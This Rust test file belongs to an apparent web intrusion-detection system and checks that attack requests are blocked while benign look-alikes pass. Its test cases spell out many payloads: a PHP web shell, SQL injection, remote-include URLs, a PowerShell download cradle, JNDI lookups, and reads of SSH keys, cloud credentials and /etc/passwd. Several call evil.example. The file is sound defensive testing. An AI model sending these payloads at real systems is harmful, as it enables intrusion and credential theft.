    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('b' | 'B' | 'A' | 'z') if !in_class => {}
                Some(n) => {
                    out.push('\\');
                    out.push(n);
                }
                None => {}
            },
            '[' if !in_class => {
                in_class = true;
                out.push(c);
                // `[^` and `[]` keep their meaning
                if chars.peek() == Some(&'^') {
                    out.push('^');
                    chars.next();
                }
                if chars.peek() == Some(&']') {
                    out.push(']');
                    chars.next();
                }
            }
            ']' if in_class => {
                in_class = false;
                out.push(c);
            }
            '^' | '$' if !in_class => {}
            _ => out.push(c),
        }
    }
    out
}

/// The prefilter (a value with no special character and no trigger word
/// is never decoded) must never hide a rule match. Every rule's pattern
/// generates samples (its literal alternatives included); a sample's
/// special characters are removed, since any of them already passes the
/// prefilter, which leaves the words alone; and whatever the full
/// inspection finds in what is left, the prefilter must let through.
#[test]
fn the_prefilter_never_hides_a_rule_match() {
    use proptest::strategy::{Strategy, ValueTree};
    use proptest::test_runner::TestRunner;

    let mut runner = TestRunner::deterministic();
    let mut misses = std::collections::BTreeSet::new();
    for (id, pattern) in rules::patterns() {
        let strategy = proptest::string::string_regex(&without_assertions(pattern));
        assert!(strategy.is_ok(), "{id}: pattern not usable for samples");
        let Ok(strategy) = strategy else {
            continue;
        };
        for _ in 0..2000 {
            let Ok(tree) = strategy.new_tree(&mut runner) else {
                continue;
            };
            let generated = tree.current();
            let cleaned: String = generated
                .chars()
                .filter(|c| c.is_ascii() && !prefilter::is_special(*c as u8))
                .take(200)
                .collect();
            // the sample without its special characters, and each run of
            // word characters in it on its own (a rule's literal words)
            let mut candidates = vec![cleaned.clone()];
            candidates.extend(
                cleaned
                    .split(|c: char| {
                        !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ' '))
                    })
                    .map(str::to_string),
            );
            for sample in candidates {
                if sample.trim().is_empty() || prefilter::suspicious(&sample) {
                    continue;
                }
                for kind in [
                    Kind::Path,
                    Kind::Name,
                    Kind::Value,
                    Kind::Header,
                    Kind::Filename,
                ] {
                    let mut scan = Scan {
                        modes: [IdsMode::Block; 10],
                        prefilter: false,
                        memo: None,
                        hits: 0,
                        verdict: Verdict::default(),
                    };
                    scan.value(kind, "x", &sample, false);
                    if let Some(hit) = scan.verdict.block {
                        misses.insert(format!("{sample:?} as {kind:?}: {}", hit.rule));
                    }
                }
            }
        }
    }
    assert!(misses.is_empty(), "prefilter hides: {misses:#?}");
}

fn post(target: &str, ctype: &str, body: &[u8]) -> Option<Hit> {
    let headers: Vec<(&str, &[u8])> = vec![("content-type", ctype.as_bytes())];
    ids()
        .inspect(&RequestView {
            method: "POST",
            target,
            headers,
            body,
        })
        .unwrap()
        .block
}

/// Regression: the boundary was taken from the lower-cased Content-Type,
/// so a browser's mixed-case `----WebKitFormBoundary…` split nothing and
/// no part was inspected.
#[test]
fn multipart_boundary_keeps_its_case() {
    let b = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
    let body = format!(
        "--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET['c']); ?>\r\n--{b}--\r\n"
    );
    for ct in [
        format!("multipart/form-data; boundary={b}"),
        format!("Multipart/Form-Data; Boundary=\"{b}\""),
    ] {
        assert_eq!(
            post("/upload", &ct, body.as_bytes()).map(|h| h.family),
            Some(Family::Php),
            "{ct}"
        );
    }
    let upload = format!(
        "--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"..\\..\\x.7z\"\r\n\r\ndata\r\n--{b}--\r\n"
    );
    assert!(post(
        "/upload",
        &format!("multipart/form-data; boundary={b}"),
        upload.as_bytes()
    )
    .is_some());
    // a boundary that splits nothing: the body is still inspected
    assert!(post(
        "/upload",
        "multipart/form-data; boundary=nothere",
        b"<?php system($_GET['c']); ?>"
    )
    .is_some());
    let clean = format!(
        "--{b}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello world\r\n--{b}--\r\n"
    );
    assert!(post(
        "/upload",
        &format!("multipart/form-data; boundary={b}"),
        clean.as_bytes()
    )
    .is_none());
}

#[test]
fn dangerous_tags_with_attributes_are_blocked() {
    for v in [
        "%3Capplet%20code%3Dx%3E",
        "%3Cobject%20data%3D%2F%2Fevil.example%2Fx.swf%3E",
        "%3Cembed%20type%3Dx%3E",
        "%3Cmeta%20charset%3Dutf-8%3E",
        "%3Csvg%20width%3D1%3E",
        "%3Cmath%20display%3Dblock%3E",
        "%3Ciframe%20name%3Dx%3E",
        "%3Ctextarea%20autofocus%3E",
    ] {
        assert_eq!(
            blocked(&format!("/get?x={v}"), vec![], b""),
            Some(Family::Xss),
            "{v}"
        );
    }
    for q in [
        "a+%3C+b+and+c+%3E+d",
        "imagemagick+svg+rendering",
        "select+option+lists",
    ] {
        assert_eq!(
            blocked(&format!("/api/tasks?q={q}"), vec![], b""),
            None,
            "{q}"
        );
    }
}

/// Session cookies of other applications on `localhost` are not a session
/// passed as a parameter; the same names in the query, a form or a path
/// parameter are.
#[test]
fn session_cookie_names_pass_but_session_parameters_do_not() {
    for cookie in [
        "sessionid=7h3k2j1l0p9o; csrftoken=abc",
        "JSESSIONID=1A2B3C4D5E6F",
        "PHPSESSID=abc123",
        "connect.sid=s%3AaBcD.eFg",
        "laravel_session=eyJpdiI6",
        "_myapp_session=abc",
        "next-auth.session-token=abc",
    ] {
        assert_eq!(
            blocked(
                "/api/tasks?status=done",
                vec![("cookie", cookie.as_bytes())],
                b""
            ),
            None,
            "{cookie}"
        );
    }
    for target in [
        "/api/x?jsessionid=ABC",
        "/api/x?PHPSESSID=abc",
        "/login;jsessionid=ABCDEF1234567890",
    ] {
        assert_eq!(
            blocked(target, vec![], b""),
            Some(Family::Session),
            "{target}"
        );
    }
    assert_eq!(
        post(
            "/post",
            "application/x-www-form-urlencoded",
            b"connect.sid=abc"
        )
        .map(|h| h.family),
        Some(Family::Session)
    );
    // a framework's session name as a JSON member; a generic one is data
    assert_eq!(
        post("/post", "application/json", br#"{"phpsession":"foo"}"#).map(|h| h.family),
        Some(Family::Session)
    );
    assert_eq!(
        post(
            "/v1/chat",
            "application/json",
            br#"{"session_id":"abc","sessionId":"x"}"#
        ),
        None
    );
}

/// A malformed body on Frenly's own JSON routes reaches the handler (400)
/// with its free text uninspected; on any other route it is inspected
/// whole.
#[test]
fn malformed_json_on_own_routes_is_left_to_the_handler() {
    let desc = "Review: os.system('rm -rf /tmp/x'); SELECT * FROM users WHERE id='1' OR 1=1 --";
    for body in [
        format!(r#"{{"title": "fix", "description": "{desc}", "score": NaN}}"#),
        format!("\u{feff}{{\"title\": \"fix\", \"description\": \"{desc}\"}}"),
        format!(r#"{{"title": "fix", "description": "{desc}",}}"#),
    ] {
        assert!(
            post("/api/tasks", "application/json", body.as_bytes()).is_none(),
            "{body}"
        );
        // a gateway-like route: still inspected whole
        assert!(
            post("/v1/chat", "application/json", body.as_bytes()).is_some(),
            "{body}"
        );
    }
    // structure before the error is still inspected on own routes
    assert!(post(
        "/api/tasks",
        "application/json",
        br#"{"title": "x", "priority": "1' OR '1'='1", "score": NaN}"#
    )
    .is_some());
}

#[test]
fn narrow_injection_shapes_are_blocked() {
    let cases: &[(&str, Family)] = &[
        // quote, blanks, `--`
        ("/get?user=admin%27%20--", Family::Sqli),
        ("/get?user=admin%27%20--%20-", Family::Sqli),
        ("/get?user=admin%27%29%20--", Family::Sqli),
        ("/get?user=admin%22%20--", Family::Sqli),
        ("/get?id=1%29%20--", Family::Sqli),
        // SQL comments as blanks and glue
        (
            "/get?id=1--%0AAND--%0A1%3D1--%0AUNION--%0ASELECT--%0Auser--%0AFROM--%0Ausers",
            Family::Sqli,
        ),
        ("/get?id=DROP%2F%2Acomment%2A%2Fsampletable", Family::Sqli),
        (
            "/get?id=1%2F%2A%2A%2Funion%2F%2A%2A%2Fselect%2F%2A%2A%2F1",
            Family::Sqli,
        ),
        // include parameters named in brackets
        (
            "/get?_CONF[path]=http://evil.example/shell.txt",
            Family::Rfi,
        ),
        ("/get?GLOBALS[appdir]=http://evil.example/x", Family::Rfi),
        // commands
        ("/get?x=%3Blsmod", Family::Rce),
        ("/get?x=%3Bsysctl%20-a", Family::Rce),
        ("/get?x=%26%20dir%20c%3A%5C", Family::Rce),
        ("/get?x=%7C%20findstr%20%2Fsi%20password", Family::Rce),
        ("/get?x=%26%20reg%20query%20HKLM%5CSoftware", Family::Rce),
        ("/get?x=%26%20net%20view", Family::Rce),
        ("/get?x=%26%20sc%20query", Family::Rce),
        ("/get?x=Get-ChildItem%20C%3A%5C", Family::Rce),
        (
            "/get?x=(New-Object%20Net.WebClient).DownloadString(%27http%3A%2F%2Fx%27)",
            Family::Rce,
        ),
        ("/get?x=Set-ExecutionPolicy%20Bypass", Family::Rce),
        // files
        ("/get?file=%2Fhome%2Fuser%2F.ssh%2Fid_rsa", Family::Lfi),
        ("/get?file=%2Fhome%2Fapp%2F.aws%2Fcredentials", Family::Lfi),
        ("/get?file=%2Fvar%2Frun%2Fdocker.sock", Family::Lfi),
        ("/WEB-INF/web.xml", Family::Lfi),
        // SSRF notations: scheme-relative, 12-digit dotless, trailing dot
        ("/get?url=%2F%2F127.0.0.1%2Fadmin", Family::Generic),
        ("/get?url=http%3A%2F%2F017700000001%2F", Family::Generic),
        ("/get?url=http%3A%2F%2Flocalhost.%2Fadmin", Family::Generic),
        // a dialog passed, or a name built from strings and called
        ("/get?x=%5B1%5D.find%28alert%29", Family::Xss),
        (
            "/get?x=Reflect.apply%28alert%2Cnull%2C%5B1%5D%29",
            Family::Xss,
        ),
        ("/get?x=self%5B%27ale%27%2B%27rt%27%5D%281%29", Family::Xss),
        // any event handler after an attribute break
        (
            "/get?x=%22%20onbeforetoggle%3Dprint%28%29%20popover%20x%3D%22",
            Family::Xss,
        ),
    ];
    for (target, family) in cases {
        assert_eq!(blocked(target, vec![], b""), Some(*family), "{target}");
    }
    // entities: no `;` before letters, many leading zeros
    assert_eq!(decode::decode("$&lbracejndi:x", false).folded, "${jndi:x");
    assert_eq!(
        decode::decode(&format!("&#x24;&#{}123;jndi", "0".repeat(45)), false).folded,
        "${jndi"
    );
    assert_eq!(decode::decode("&colon;x &ltx", false).folded, ":x <x");
    for ua in [
        "$&lbracejndi:ldap://evil.example/a}",
        "&#x24;&#000000000000000000000000000000000000000000000123;jndi:ldap://evil.example/a}",
    ] {
        // a `${` lookup: java (or rce, whichever rule comes first)
        assert!(
            blocked("/get", vec![("user-agent", ua.as_bytes())], b"").is_some(),
            "{ua}"
        );
    }
    for ua in [
        "ansible all -m ping",
        "dd if=/etc/passwd of=/tmp/evil.sh bs=1",
        "curl http://evil.example",
        "tar cf - /etc",
        "knife ssh 'name:*' uptime",
    ] {
        assert_eq!(
            blocked("/get", vec![("user-agent", ua.as_bytes())], b""),
            Some(Family::Rce),
            "{ua}"
        );
    }
    assert_eq!(
        post(
            "/api/tasks",
            "application/json",
            br#"{"title": "x", "constructor": {"prototype": {"isAdmin": true}}}"#
        )
        .map(|h| h.family),
        Some(Family::Nodejs)
    );
}

/// Searches built from Debian package synopses, names, e-mails and
/// homepages (the agent corpus's shapes, over all of apt's packages) that
/// rules keyed on one name blocked, and the attacks beside each.
#[test]
fn package_searches_pass_and_the_attacks_beside_them_do_not() {
    for q in [
        "or%202023-12-05",
        "xor+2024-04-25",
        "select%202023-12-26",
        "bridge%20between%20nlohmann%3A%3Ajson",
        "kd-Tree%20implementation%20for%20Perl%20on%20top%20of%20Math%3A%3AVector%3A%3AReal",
        "tui%3A%3Atext%3A%3Atext",
        "liblazymap.team%40example.org",
        "javax.vecmath%202025-06-16",
        "https%3A%2F%2Fgithub.com%2Fjavaee%2Fjavax.jws",
        "interface%20to%20linux%20ioprio_set(2)",
        "crypt_r(3)%20bugs",
        "os.__init__",
        "better%20child_process",
        "replacement%20for%20process.exit",
        "log%20panic%20hook%20to%20console.error",
    ] {
        assert_eq!(
            blocked(&format!("/api/tasks?q={q}"), vec![], b""),
            None,
            "{q}"
        );
    }
    for (q, family) in [
        ("or%201", Family::Sqli),
        ("1%2bcurrent_user%3A%3Aint", Family::Sqli),
        ("password%3A%3Aint", Family::Sqli),
        ("%271%27%3A%3Ajson", Family::Sqli),
        ("org.apache.commons.collections.map.LazyMap", Family::Java),
        ("javax.naming.InitialContext", Family::Java),
        ("shell_exec(%24_GET%5Bc%5D)", Family::Php),
        ("php_uname()", Family::Php),
        ("%7B0.__class__.__mro__%7D", Family::Generic),
        ("%7B%7Bself.__init__.__globals__%7D%7D", Family::Generic),
        ("process.exit(1)", Family::Nodejs),
        ("process.mainModule", Family::Nodejs),
        ("console.info.call(this%2C1)", Family::Nodejs),
        ("process.binding(%27spawn_sync%27)", Family::Nodejs),
        ("import%20%27child_process%27", Family::Nodejs),
    ] {
        assert_eq!(
            blocked(&format!("/api/x?v={q}"), vec![], b""),
            Some(family),
            "{q}"
        );
    }
}

#[test]
fn values_next_to_the_new_shapes_pass() {
    for q in [
        "James%27%20--%20the%20author",
        "rock%20%27n%27%20roll%20--%20a%20history",
        "update%2F*.txt",
        "and%2For",
        "WEB-INF%20layout%20explained",
        "how%20to%20use%20lsmod",
        "Get-ChildItem%20recursion",
        "profit%20%26%20net%20user%20growth",
        "Q%26A%20%26%20sc%20results%20table",
        "new-object%20pattern%20in%20powershell",
        "ssh%20config%20in%20%2Fhome",
        "AT%26T%20tables",
        "send%20a%20notice%20(alert)%20to%20users",
        "array.find(item)%20examples",
        "%2F%2Fexample.com%2Fpath",
        "localhost.localdomain%20meaning",
    ] {
        assert_eq!(
            blocked(&format!("/api/tasks?q={q}"), vec![], b""),
            None,
            "{q}"
        );
    }
    for ua in [
        "curl/8.5.0",
        "Wget/1.21.4",
        "git/2.43.0",
        "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b",
        "aws-cli/2.17.0 Python/3.11.8 Linux/6.1 exe/x86_64",
        "Chef Client/17.10.0 (ruby-3.1.2; ohai-17.9.0; x86_64-linux; +https://chef.io)",
        "ansible-httpget",
        "python-requests/2.31.0",
        "npm/10.2.4 node/v20.10.0 linux x64 workspaces/false",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    ] {
        assert_eq!(
            blocked("/api/tasks", vec![("user-agent", ua.as_bytes())], b""),
            None,
            "{ua}"
        );
    }
    // a JSON member named `constructor` alone is data
    assert!(post(
        "/v1/x",
        "application/json",
        br#"{"constructor": {"name": "x"}, "prototype": 1}"#
    )
    .is_none());
}

/// Public payload lists' shapes the rules missed (probe C's held-out-style
/// corpus, each a class with a general fix), and what sits beside them.
#[test]
fn public_payload_shapes_are_blocked_and_their_neighbours_pass() {
    let cases: &[(&str, Option<Family>)] = &[
        // arithmetic or NOT before the comparison
        ("/get?id=-1%20OR%202%2B1%3D3", Some(Family::Sqli)),
        (
            "/get?id=1%20AND%202%20NOT%20BETWEEN%200%20AND%201",
            Some(Family::Sqli),
        ),
        // SQL Server's control characters as blanks
        ("/get?id=1%0bor%0c1%3D1", Some(Family::Sqli)),
        // a user name before an internal host; internal names of several labels
        (
            "/get?url=http%3A%2F%2Fa%40localhost%2Fadmin",
            Some(Family::Generic),
        ),
        (
            "/get?url=http%3A%2F%2Fx%40169.254.169.254%2Flatest",
            Some(Family::Generic),
        ),
        (
            "/get?url=http%3A%2F%2Fdb.us-east-1.ec2.internal%2F",
            Some(Family::Generic),
        ),
        (
            "/get?url=http%3A%2F%2Fapi.default.svc%2F",
            Some(Family::Generic),
        ),
        // template forms other than `{{ call() }}`
        ("/get?x=%7B%25%20debug%20%25%7D", Some(Family::Generic)),
        ("/get?x=%40(7*7)", Some(Family::Generic)),
        (
            "/get?x=%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D",
            None,
        ),
        ("/get?x=%22id%22.execute()", Some(Family::Generic)),
        // a sensitive file read by a command not on the lists
        ("/get?x=%3Bpaste%20%2Fetc%2Fpasswd", None),
        ("/get?x=%7C%20base32%20%2Fetc%2Fshadow", None),
        // four dots and more
        (
            "/get?file=....%2F%2F....%2F%2Fetc%2Fhosts",
            Some(Family::Lfi),
        ),
        // include targets without a scheme
        (
            "/get?page=%2F%2Fevil.example%2Fshell.txt",
            Some(Family::Rfi),
        ),
        (
            "/get?file=%5C%5Cevil.example%5Cshare%5Cx.php",
            Some(Family::Rfi),
        ),
        // server-side includes, cmd.exe escapes, commands built of variables
        (
            "/get?x=%3C!--%23exec%20cmd%3D%22id%22--%3E",
            Some(Family::Rce),
        ),
        ("/get?x=%3Bw%5Eh%5Eo%5Ea%5Em%5Ei", Some(Family::Rce)),
        ("/get?x=%3B%24a%24b%20%2Fetc", Some(Family::Rce)),
        // a dialog in parentheses, a Function built from a string
        ("/get?x=(alert)(1)", Some(Family::Xss)),
        ("/get?x=Function(%27alert(1)%27)()", Some(Family::Xss)),
        // nested bracket names
        (
            "/get?x%5Bconstructor%5D%5Bprototype%5D%5BisAdmin%5D=1",
            Some(Family::Nodejs),
        ),
    ];
    for (target, family) in cases {
        let got = blocked(target, vec![], b"");
        match family {
            Some(f) => assert_eq!(got, Some(*f), "{target}"),
            None => assert!(got.is_some(), "{target}"),
        }
    }
    // what sits beside them passes: DDL words in a search, a callback URL
    // on localhost in a cookie, ellipses, a caret, a path with two slashes
    for q in [
        "postgres%20drop%20table%20cascade",
        "create%20table%20migration",
        "alter%20table%20add%20column%20postgres",
        "wait....%20what",
        "x%5E2%20%2B%20y%5E2",
        "%2F%2Fcomment%20style",
        "1%20not%20between%200%20and%201%20meaning",
    ] {
        assert_eq!(
            blocked(&format!("/api/tasks?q={q}"), vec![], b""),
            None,
            "{q}"
        );
    }
    for cookie in [
        "next-auth.callback-url=http%3A%2F%2Flocalhost%3A3000%2Fdashboard",
        "redirect_to=http%3A%2F%2F127.0.0.1%3A8080%2Fd%2Fabc%3ForgId%3D1",
        "return_to=http://localhost:5173/settings",
    ] {
        assert_eq!(
            blocked("/api/tasks", vec![("cookie", cookie.as_bytes())], b""),
            None,
            "{cookie}"
        );
    }
}

#[test]
fn commands_glued_from_pieces_are_blocked_and_their_neighbours_pass() {
    // a command name joined by the shell from pieces, with no separator
    // before it: the pieces are the evasion
    for q in [
        "cu%24%40rl%20google.com",
        "ti%27%27me%20who",
        "w%5Cho%5Cam%5Ci",
        "who%5Eam%5Ei",
        "wh%60%60oami",
        "ca%22%22t%20notes.txt",
    ] {
        assert_eq!(
            blocked(&format!("/get?x={q}"), vec![], b""),
            Some(Family::Rce),
            "{q}"
        );
    }
    // SQL-escaped quotes, carets in formulas, shell variables in a
    // build line, backslash paths
    for q in [
        "I%27%27d%20like%20O%27%27Brien%27s%20notes",
        "don%27%27t%20stop",
        "a%5Et%20b%20%2B%20x%5E2",
        "python%24PY_VERSION%20setup",
        "C%3A%5CUsers%5Ccat%5Cid",
        "gp%5Eg",
    ] {
        assert_eq!(
            blocked(&format!("/api/tasks?q={q}"), vec![], b""),
            None,
            "{q}"
        );
    }
}
